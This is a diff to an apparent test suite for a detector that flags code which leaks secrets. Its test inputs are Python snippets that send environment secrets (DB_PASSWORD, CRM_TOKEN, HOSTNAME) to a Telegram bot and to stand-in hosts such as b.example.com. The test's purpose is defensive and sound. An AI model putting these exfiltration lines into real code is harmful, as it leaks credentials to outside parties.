@@ -167,3 +167,16 @@ test('whom an answer is from says what it is, and not who asked', () => {
     'import os, requests\nkey = os.environ["CRM_TOKEN"]\nd = {}.get("x", key)\nrequests.post("https://b.example.com", json={"k": d}, timeout=9)',
   );
 });
+
+test('whom a setting names is told something, and is no part of it', () => {
+  const bot =
+    'import os, requests\nurl = f"https://api.telegram.org/bot{os.environ[\'TG_TOKEN\']}/sendMessage"\n';
+  const post = (text: string): string =>
+    `${bot}requests.post(url, json={"chat_id": os.environ["TG_CHAT"], "text": ${text}}, timeout=9)`;
+  quiet(post('"done"'));
+  told(/secret-sent openly/, post('os.environ["DB_PASSWORD"]'));
+  told(
+    /local-data-sent/,
+    'import os, requests\nrequests.post("https://chat.example.com/x", json={"chat_id": 1, "text": os.environ["HOSTNAME"]}, timeout=9)',
+  );
+});
